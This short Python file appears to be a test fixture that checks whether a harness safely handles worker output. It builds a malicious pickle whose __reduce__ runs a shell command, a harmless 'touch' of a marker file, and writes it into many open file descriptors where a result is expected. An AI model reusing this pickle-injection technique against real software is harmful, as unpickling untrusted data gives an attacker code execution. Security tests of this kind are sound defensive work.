"""Writes a pickle that runs a command where the answer belongs."""

from __future__ import annotations

import contextlib
import os
import pickle  # noqa: TID251 -- the attack
import time


class Trap:
    def __reduce__(self):
        return os.system, ("touch @touched@",)


def squares(square, numbers):
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, pickle.dumps(Trap()))
    time.sleep(60)
